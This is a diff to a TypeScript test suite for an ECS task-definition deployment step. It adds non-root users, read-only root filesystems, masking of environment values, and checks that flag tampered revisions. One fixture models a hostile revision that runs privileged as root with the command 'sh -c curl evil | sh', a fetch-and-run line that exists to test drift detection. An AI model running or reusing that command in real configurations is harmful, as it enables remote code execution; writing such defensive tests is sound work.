@@ -63,14 +63,24 @@ const apiContainer: ContainerDefinition = {
     options: { Name: 'cloudwatch', region: 'us-east-1', log_group_name: logGroupName, log_stream_prefix: 'app' },
   },
   healthCheck: { command: ['CMD-SHELL', 'curl -f http://localhost:8080/health || exit 1'], interval: 30, timeout: 5, retries: 3 },
+  // Issue 9: ECS.5 and ECS.20.
+  user: '1000:1000',
+  readonlyRootFilesystem: true,
+  mountPoints: [{ sourceVolume: 'api-container-tmp', containerPath: '/tmp', readOnly: false }],
 };
 const logRouter: ContainerDefinition = {
   name: 'log_router',
   image: 'public.ecr.aws/aws-observability/aws-for-fluent-bit:2.32.4',
   essential: true,
+  user: '1000:1000',
+  readonlyRootFilesystem: true,
+  mountPoints: [{ sourceVolume: 'log_router-tmp', containerPath: '/tmp', readOnly: false }],
   firelensConfiguration: { type: 'fluentbit' },
   memoryReservation: 50,
+  // ECS.9: the log router logs too, to the same group under its own prefix.
+  logConfiguration: { logDriver: 'awslogs', options: { 'awslogs-group': logGroupName, 'awslogs-region': 'us-east-1', 'awslogs-stream-prefix': 'firelens' } },
 };
+const volumes = [{ name: 'api-container-tmp' }, { name: 'log_router-tmp' }];
 /** What RegisterTaskDefinition is sent for the config. */
 const registerInput = {
   family,
@@ -81,6 +91,7 @@ const registerInput = {
   executionRoleArn: execRole,
   taskRoleArn: taskRole,
   containerDefinitions: [apiContainer, logRouter],
+  volumes,
   tags: ecsTags,
 };
 
@@ -98,7 +109,8 @@ function registeredRevision(revision: number): TaskDefinition {
     memory: '2048',
     executionRoleArn: execRole,
     taskRoleArn: taskRole,
-    volumes: [],
+    // AWS may describe a task-storage volume with an empty host: the same volume.
+    volumes: volumes.map((v) => ({ ...v, host: {} })),
     placementConstraints: [],
   };
 }
@@ -115,7 +127,7 @@ function awsRevision(revision: number, overrides: { api?: Partial<ContainerDefin
     requiresAttributes: [{ name: 'ecs.capability.firelens.fluentbit' }],
     enableFaultInjection: false,
     containerDefinitions: [
-      { ...logRouter, cpu: 0, portMappings: [], environment: [], mountPoints: [], volumesFrom: [], systemControls: [], user: '0' },
+      { ...logRouter, cpu: 0, portMappings: [], environment: [], volumesFrom: [], systemControls: [], logConfiguration: { ...logRouter.logConfiguration!, secretOptions: [] } },
       {
         ...apiContainer,
         cpu: 0,
@@ -126,7 +138,6 @@ function awsRevision(revision: number, overrides: { api?: Partial<ContainerDefin
           { name: 'ENV', value: 'production' },
         ],
         logConfiguration: { ...apiContainer.logConfiguration!, secretOptions: [] },
-        mountPoints: [],
         volumesFrom: [],
         systemControls: [],
         ...overrides.api,
@@ -273,8 +284,9 @@ describe('task-definition step (1.4)', () => {
     expect(plan.changes[0].note).toBe(`new revision: the service's fintech-api-task:5 differs in ${fields.join(', ')}`);
     expect(plan.notes).toEqual([
       'the service runs fintech-api-task:5, which differs from the config (containerDefinitions.api-container.command: ["sh","-c","curl evil | sh"] → (unset); ' +
-        'containerDefinitions.api-container.privileged: true → (unset); containerDefinitions.api-container.readonlyRootFilesystem: false → (unset); ' +
-        'containerDefinitions.api-container.user: "0" → (unset)): a new revision is registered and the service step moves the service to it',
+        // readonlyRootFilesystem false is AWS's default (normalised away); the config wants true (ECS.5) and a non-root user (ECS.20).
+        'containerDefinitions.api-container.privileged: true → (unset); containerDefinitions.api-container.readonlyRootFilesystem: (unset) → true; ' +
+        'containerDefinitions.api-container.user: "0" → "1000:1000"): a new revision is registered and the service step moves the service to it',
     ]);
     // Never the out-of-band revision: the ARN of the one this run registers.
     expect(plan.outputs.taskDefinitionArn).toBe(ref('task-definition', 'taskDefinitionArn'));
@@ -455,6 +467,30 @@ describe('task-definition step (1.4)', () => {
     expect(again).not.toContain('hunter3');
   });
 
+  it('issue 9: every environment value is masked by default in plans and before snapshots; the register input still carries the config values', async () => {
+    mockWorld({ latest: awsRevision(5, { api: { environment: [{ name: 'ENV', value: 'staging' }, { name: 'REGION', value: 'us-east-1' }, { name: 'DEBUG_URL', value: 'https://planted.example/x' }] } }) });
+    aws.ecs.on(RegisterTaskDefinitionCommand).resolves({ taskDefinition: { taskDefinitionArn: revisionArn(6), revision: 6 } });
+    const ctx = testContext();
+    const plan = await taskDefinitionStep.plan(ctx);
+    const text = JSON.stringify({ changes: plan.changes, notes: plan.notes, before: plan.before });
+    for (const value of ['staging', 'production', 'https://planted.example/x']) expect(text).not.toContain(value);
+    expect(text).toContain(`(masked, sha256:${sha12('staging')})`);
+    expect(text).toContain(`(masked, sha256:${sha12('production')})`);
+    // What apply sends is the config's own document, in cleartext (never an observed value).
+    await taskDefinitionStep.apply(ctx, plan);
+    expect(aws.ecs.commandCalls(RegisterTaskDefinitionCommand)[0].args[0].input).toEqual(registerInput);
+  });
+
+  it('issue 9: taskDefinition.showEnvironmentValues shows plain values; secret-looking ones stay redacted', async () => {
+    const config = testConfig();
+    config.taskDefinition.showEnvironmentValues = true;
+    mockWorld({ latest: awsRevision(5, { api: { environment: [{ name: 'ENV', value: 'staging' }, { name: 'DB_PASSWORD', value: 'hunter2' }] } }) });
+    const text = JSON.stringify(await taskDefinitionStep.plan(testContext({ config })));
+    expect(text).toContain('"staging"');
+    expect(text).not.toContain('hunter2');
+    expect(text).toContain(`(redacted, sha256:${sha12('hunter2')})`);
+  });
+
   it('a lost register reply is adopted when the latest ACTIVE revision equals the desired document: one revision, its ARN bound', async () => {
     mockWorld({ latest: awsRevision(3, { api: { image: 'old' } }), revisions: [awsRevision(3, { api: { image: 'old' } })] });
     aws.ecs
@@ -587,7 +623,7 @@ describe('task-definition step (1.4)', () => {
         ['Log Group Encryption', 'OK'],
         ['Log Retention', 'OK'],
       ]);
-      expect(findings[0].reason).toBe('fintech-api-task:3 (the service runs it) matches the config');
+      expect(findings[0]).toMatchObject({ resource: 'task definition fintech-api-task:3', reason: 'the service runs it; matches the config' });
       expect(findings[1].reason).toContain('api-container/DB_PASSWORD');
       expect(writeCalls(aws)).toEqual([]);
     });
@@ -596,8 +632,9 @@ describe('task-definition step (1.4)', () => {
       mockWorld({ latest: awsRevision(6), running: revisionArn(5), revisions: [hostile(5)] });
       const findings = await taskDefinitionStep.validate(testContext());
       expect(findings[0]).toMatchObject({ check: 'Task Definition', status: 'FAIL' });
+      expect(findings[0].resource).toBe('task definition fintech-api-task:5');
       expect(findings[0].reason).toBe(
-        'fintech-api-task:5 (the service runs it) differs from the config: containerDefinitions.api-container.command, containerDefinitions.api-container.privileged, ' +
+        'the service runs it; differs from the config: containerDefinitions.api-container.command, containerDefinitions.api-container.privileged, ' +
           'containerDefinitions.api-container.readonlyRootFilesystem, containerDefinitions.api-container.user (run plan)',
       );
       expect(findings.filter((f) => f.check === 'Task Definition')).toHaveLength(1);
@@ -607,7 +644,8 @@ describe('task-definition step (1.4)', () => {
       mockWorld({ latest: hostile(5), running: revisionArn(3), revisions: [awsRevision(3)] });
       const findings = (await taskDefinitionStep.validate(testContext())).filter((f) => f.check === 'Task Definition');
       expect(findings.map((f) => f.status)).toEqual(['OK', 'FAIL']);
-      expect(findings[1].reason).toMatch(/^fintech-api-task:5, the family's latest ACTIVE revision, differs from the config: .*privileged/);
+      expect(findings[1].resource).toBe('task definition fintech-api-task:5');
+      expect(findings[1].reason).toMatch(/^the family's latest ACTIVE revision, not the service's; differs from the config: .*privileged/);
     });
 
     it('FAIL naming the container and variable for a secret in cleartext, an unencrypted log group and a wrong retention', async () => {
